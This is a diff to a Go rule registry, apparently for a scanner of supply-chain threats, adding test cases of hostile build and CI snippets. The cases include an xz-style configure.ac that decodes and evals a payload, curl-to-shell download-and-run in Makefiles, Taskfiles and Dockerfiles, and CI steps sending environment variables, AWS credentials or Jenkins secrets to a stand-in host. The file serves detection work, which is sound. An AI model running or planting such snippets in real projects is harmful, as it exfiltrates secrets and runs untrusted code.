@@ -61,6 +61,8 @@ var registry = []Rule{
 			{"x.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 0, false},
 			{"build.bat", "certutil -decode tools\\cfg.txt %TEMP%\\u.exe && %TEMP%\\u.exe", 0, false},
 			{"x.ps1", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))).Invoke()", 0, false},
+			// configure runs the shell inside configure.ac's macros.
+			{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS_PRE([\n  p=`sed -n '/^#x/,$p' tests/files/x.lz | tr '\\t \\-_' ' \\t_\\-' | xz -dc`\n  eval \"$p\"\n])", 4, false},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
@@ -71,12 +73,36 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
+		// Anyone's repository on a forge is not a vendor's host.
+		{"x.sh", "curl -fsSL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh", 0, false},
+		{".gitlab-ci.yml", "scan:\n  script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 0, true},
 		// ADD into the working directory names the file by the URL's last segment.
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/setup.sh .\nRUN sh setup.sh", 4, false},
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/t-1.2.tar.gz .\nRUN tar -xf t-1.2.tar.gz\nRUN adduser -S app && git config --global core.quotepath false", 0, true},
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
+		// Make, just and Task: a URL in a variable, a download continued
+		// with a backslash, run by a later recipe line; a variable set from
+		// a command's output, run.
+		{"Makefile", "U := https://x.invalid/fmt.sh\nfmt:\n\t@curl -fsSL $(U) \\\n\t\t-o $(TMP)/fmt.sh\n\tgo fmt ./...\n\t@sh $(TMP)/fmt.sh", 6, false},
+		{"Makefile", "R != curl -s https://x.invalid/i.sh\nall:\n\tsh -c \"$(R)\"", 3, false},
+		{"tools.mk", "R := $(shell curl -s https://x.invalid/i.sh)\nall:\n\t@echo \"$(R)\" | sh", 3, false},
+		{"justfile", "u := \"https://x.invalid/f.sh\"\nfmt:\n    curl -fsSL {{u}} -o /tmp/f.sh\n    sh /tmp/f.sh", 4, false},
+		{"Taskfile.yml", "version: '3'\ntasks:\n  fmt:\n    cmds:\n      - wget -qO /tmp/f.sh https://x.invalid/f.sh\n      - cmd: bash /tmp/f.sh", 6, false},
+		// make's automatic variables: curl -o $@ writes the rule's target, which another rule runs.
+		{"Makefile", "BOOT := $(CURDIR)/.cache/boot.sh\n$(BOOT):\n\tcurl -fsSL https://x.invalid/boot.sh -o $@\ntools: $(BOOT)\n\tsh $(BOOT) --quiet", 5, false},
+		// A version read from the network is text, not code.
+		{"Makefile", "V := $(shell curl -s https://api.x.invalid/latest)\nall:\n\techo $(V) > VERSION", 0, true},
+		// Checked against a digest or signature the change fixes, the
+		// download is the file the change names.
+		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\necho \"$SHA  i.sh\" | sha256sum -c -\nsh i.sh", 0, true},
+		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\n[ \"$(sha256sum i.sh | cut -d' ' -f1)\" = \"$SHA\" ] || exit 1\nbash i.sh", 0, true},
+		{"Dockerfile", "FROM alpine\nRUN curl -fsSLO https://x.invalid/t-1.2.tar.gz \\\n  && curl -fsSLO https://x.invalid/t-1.2.tar.gz.asc \\\n  && gpg --batch --verify t-1.2.tar.gz.asc t-1.2.tar.gz \\\n  && tar -xzf t-1.2.tar.gz -C /opt \\\n  && /opt/t-1.2/install.sh", 0, true},
+		{"Dockerfile", "FROM debian:12\nRUN wget -O /usr/local/bin/gosu https://x.invalid/gosu-amd64; \\\n\twget -O /usr/local/bin/gosu.asc https://x.invalid/gosu-amd64.asc; \\\n\tgpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; \\\n\tchmod +x /usr/local/bin/gosu; \\\n\tgosu --version", 0, true},
+		// Printing a digest checks nothing; checking one file leaves another unchecked.
+		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\nsha256sum i.sh\nbash i.sh", 3, false},
+		{"x.sh", "curl -fsSLo i.sh https://x.invalid/i.sh\ncurl -fsSLo t.tgz https://x.invalid/t.tgz\necho \"$SHA  t.tgz\" | sha256sum -c -\nbash i.sh", 4, false},
 	}},
 	{"indirect-run", KindDecodeExec, High, "pipes eval's output into a shell, or data into eval",
 		"the command that runs is assembled at run time from variables (as the xz backdoor's build script did), so the diff does not show it", []Case{
@@ -123,6 +149,11 @@ var registry = []Rule{
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
 			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
 			{"x.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", 0, false},
+			// A well-known owner's installer from its own repository, and a
+			// tool's documented installer from the tool's own site.
+			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS https://starship.rs/install.sh | sh -s -- -y", 6, false},
+			{"install.sh", "powershell -c \"irm bun.sh/install.ps1|iex\"", 0, false},
 		}},
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
@@ -138,6 +169,22 @@ var registry = []Rule{
 			{"x.php", "<?php\n$k = getenv('AWS_SECRET_ACCESS_KEY');\n@file_get_contents('https://x.invalid/k/' . base64_encode($k));", 3, false},
 			// An API key in the query of the API it belongs to.
 			{"x.py", "import os, requests\nkey = os.environ['MAPS_API_KEY']\nrequests.get(f'https://maps.x.invalid/geocode?key={key}&q=x')", 3, true},
+			// The environment packed into a file, sent lines later by another client, in other CI systems.
+			{".buildkite/pipeline.yml", "steps:\n  - command: |\n      printenv -0 | gzip -9 | base64 -w0 > .cache/e.b64\n      make test\n      wget -q -O /dev/null --post-file=.cache/e.b64 https://x.invalid/i", 5, false},
+			{".gitlab-ci.yml", "test:\n  script:\n    - declare -px > /tmp/e\n    - pytest\n    - aws --region eu-west-1 s3 cp /tmp/e s3://x-invalid/e --acl public-read", 5, false},
+			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('t') {\n      steps {\n        sh \"\"\"\n          export > env.txt\n          make check\n          curl -sT env.txt https://x.invalid/u\n        \"\"\"\n      }\n    }\n  }\n}", 8, false},
+			{"Taskfile.yml", "version: '3'\ntasks:\n  test:\n    cmds:\n      - jq -n env > env.json\n      - go test ./...\n      - http POST https://x.invalid/u < env.json", 7, false},
+			{"x.sh", "cat ~/.npmrc > /tmp/n\nopenssl enc -aes-256-cbc -k k -in /tmp/n -out /tmp/n.enc\nrclone copy /tmp/n.enc drop:bucket", 3, false},
+			{"x.sh", "env > /tmp/e\npython3 - <<'EOF'\nimport requests\nrequests.post('https://x.invalid', data=open('/tmp/e').read())\nEOF", 2, false},
+			{"ci/report.ps1", "Invoke-RestMethod -Uri https://x.invalid/u -Method Post -InFile ~/.aws/credentials", 0, false},
+			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
+			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
+			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
+			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('m') {\n      steps {\n        withCredentials([string(credentialsId: 'sonar', variable: 'SQ')]) {\n          writeFile file: 'build/m.txt', text: \"s=${SQ}\"\n        }\n        sh 'curl -s -T build/m.txt ftp://x.invalid/drop/'\n      }\n    }\n  }\n}", 8, false},
+			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('d') {\n      steps {\n        withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'U', passwordVariable: 'P')]) {\n          sh 'curl -fsS -u \"$U:$P\" -T build/app.jar https://nexus.x.invalid/repo/app.jar'\n        }\n      }\n    }\n  }\n}", 0, true},
+			// A key written for ssh is its identity, not what is copied; a download sends nothing.
+			{"x.sh", "echo \"$DEPLOY_KEY\" > key.pem\nchmod 600 key.pem\nscp -i key.pem -r dist/ deploy@x.invalid:/srv/www/", 0, true},
+			{"x.sh", "echo \"$SSH_KEY\" > id\nrsync -az -e \"ssh -i id\" public/ deploy@x.invalid:/srv/\naws s3 cp s3://x-invalid/tool.tgz tool.tgz\ngh release upload v1 dist/*.tar.gz", 0, true},
 		}},
 	{"dns-exfiltration", KindCredential, High, "looks up a host name built from data (DNS exfiltration)",
 		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
@@ -310,6 +357,12 @@ var registry = []Rule{
 	{"gha-artifact-run", KindRunner, High, "runs a file from an artifact in a privileged workflow",
 		"the artifact was made by the pull request's own run; here it runs with the write token and secrets", []Case{
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\n    types: [completed]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n      - run: bash ./pr/post.sh", 13, false},
+			// A package or requirements list from the artifact installs the pull request's code.
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/dist\n      - run: pip install \"$RUNNER_TEMP\"/dist/*.whl", 12, false},
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/out\n      - run: ${{ runner.temp }}/out/bin/report --post", 12, false},
+			// Unpacked outside the workspace, the artifact cannot replace the
+			// checkout's scripts: one that only reads it runs the base branch's code.
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: write\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/comment\n      - run: python scripts/comment.py \"$RUNNER_TEMP/comment/body.md\"\n      - run: npm ci && node scripts/post.js", 0, true},
 		}},
 
 	// ---- credentials
@@ -338,7 +391,8 @@ var registry = []Rule{
 		}},
 	{"ci-oidc-request", KindCredential, Medium, "asks the runner for the job's OIDC token",
 		"the token proves the job's identity to a cloud or registry: exchanged at the host it is minted for, it is how trusted publishing works; sent anywhere else it is the job's identity given away, which the data flow rates on the line that sends it", []Case{
-			{"x.sh", "t=$(curl -sH \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL\")", 1, true},
+			// Asked for with the request token (-sH bundles the header flag): medium, and nothing sent.
+			{"x.sh", "t=$(curl -sH \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL\")", 1, false},
 		}},
 	{"ci-runner-token", KindCredential, High, "uses the runner's internal token",
 		"with the runner's cache or OIDC token a step can poison the cache or mint cloud credentials", []Case{
@@ -486,6 +540,7 @@ var registry = []Rule{
 		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          path: pr\n      - run: echo \"$GITHUB_WORKSPACE/pr/bin\" >> \"$GITHUB_PATH\"", 10, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -12,3 +12,4 @@ jobs:\n         with:\n           ref: ${{ github.event.pull_request.head.sha }}\n           path: head\n+      - run: echo \"${{ github.workspace }}/head/scripts\" >> $GITHUB_PATH\n", 15, false},
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/tools\n      - run: echo \"$RUNNER_TEMP/tools/bin\" >> \"$GITHUB_PATH\"", 12, false},
 			// Without the head checked out, the workspace holds the base branch's own files.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 7, true},
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 9, true},
@@ -552,6 +607,8 @@ var registry = []Rule{
 	// ---- hidden text
 	{"hidden-bidi", KindHiddenUnicode, High, "bidirectional-control characters reorder what you see (Trojan Source)", HiddenWhy, []Case{
 		{"x.go", "// \u202e hidden", 0, false},
+		// Still shown in a test fixture, where it is medium.
+		{"tests/fixtures/bidi.py", "x = 1 # \u202e hidden", 0, false},
 	}},
 	{"hidden-payload", KindHiddenUnicode, High, "invisible characters (variation selectors, tags, zero-width) inside code",
 		"invisible characters inside code or a string can carry a payload a decoder turns into code, or make two names that look the same differ", []Case{
